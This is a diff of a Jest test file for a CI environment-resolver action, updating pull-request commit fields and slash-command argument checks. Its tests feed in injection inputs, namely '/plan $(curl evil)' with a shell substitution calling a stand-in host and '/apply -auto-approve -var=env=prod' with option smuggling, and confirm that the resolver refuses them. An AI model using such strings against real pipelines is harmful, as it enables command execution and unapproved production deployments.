@@ -1,6 +1,6 @@
 import { describe, expect, it } from '@jest/globals';
 import { resolveEnvironment } from '../src/resolve.js';
-import { IMAGE_BUILD, MERGE_SHA, REDCAP, RUN_SHA, inputsFrom, runEvent } from './fixtures.js';
+import { HEAD_SHA, IMAGE_BUILD, MERGE_SHA, REDCAP, RUN_SHA, inputsFrom, runEvent } from './fixtures.js';
 
 describe('the REDCap two-cron mapping', () => {
   const inputs = inputsFrom({ ...REDCAP, environment: '' });
@@ -130,14 +130,21 @@ describe('branches and tags', () => {
 });
 
 describe('pull requests', () => {
-  it('reports the PR number, its head branch and the run sha', () => {
+  it('describes the head commit, not the merge commit, and the base beside it', () => {
     const r = resolveEnvironment(runEvent('pull_request'), inputsFrom({ 'pull-request': 'preview' }));
+    expect(r.sha).not.toBe(MERGE_SHA);
     expect(r).toMatchObject({
       environment: 'preview',
       prNumber: '42',
       refName: 'feature/qa-dashboard',
-      sha: MERGE_SHA,
-      shortSha: 'c0ffee0',
+      sha: HEAD_SHA,
+      shortSha: HEAD_SHA.slice(0, 7),
+      headSha: HEAD_SHA,
+      headRef: 'feature/qa-dashboard',
+      headRepo: 'octo-org/pipeline-demo',
+      isFork: 'false',
+      prState: 'open',
+      baseRef: 'main',
     });
     expect(r.reason).toBe("Pull request #42 uses the 'pull-request' environment 'preview'.");
   });
@@ -195,7 +202,9 @@ describe('slash commands', () => {
   it('refuses an unknown command without failing', () => {
     const r = resolveEnvironment(runEvent('issue_comment-pull_request', { comment: { body: '/deploy now' } }), inputsFrom(commands));
     expect(r).toMatchObject({ shouldRun: false, command: '', commandArgs: '' });
-    expect(r.reason).toBe("Comment on pull request #42 runs no command: '/deploy' is not one of the commands: /plan, /apply, /bootstrap.");
+    expect(r.reason).toBe(
+      "Comment on pull request #42 runs no command: '/deploy' is not an allowed command (allowed: /plan [args], /apply [args], /bootstrap [args]).",
+    );
   });
 
   it('refuses a comment on an issue', () => {
@@ -218,16 +227,25 @@ describe('slash commands', () => {
 
   it('honours another command prefix', () => {
     const r = resolveEnvironment(
-      runEvent('issue_comment-pull_request', { comment: { body: '!plan  -target=module.db' } }),
+      runEvent('issue_comment-pull_request', { comment: { body: '!plan  module.db' } }),
       inputsFrom({ ...commands, 'command-prefix': '!' }),
     );
-    expect(r).toMatchObject({ command: 'plan', commandArgs: '-target=module.db', shouldRun: true });
+    expect(r).toMatchObject({ command: 'plan', commandArgs: 'module.db', shouldRun: true });
+  });
+
+  it('refuses an argument that is an option, even in the list form', () => {
+    const r = resolveEnvironment(
+      runEvent('issue_comment-pull_request', { comment: { body: '/apply -auto-approve -var=env=prod' } }),
+      inputsFrom(commands),
+    );
+    expect(r).toMatchObject({ shouldRun: false, command: '' });
+    expect(r.reason).toContain("the argument '-auto-approve' of '/apply' is not allowed");
   });
 
   it('refuses arguments with shell metacharacters', () => {
     const r = resolveEnvironment(runEvent('issue_comment-pull_request', { comment: { body: '/plan $(curl evil)' } }), inputsFrom(commands));
     expect(r.shouldRun).toBe(false);
-    expect(r.reason).toContain('contain characters other than');
+    expect(r.reason).toContain("the argument '$(curl' of '/plan' is not allowed: arguments are words of letters");
   });
 
   it('routes commands with no environment when only commands is set', () => {
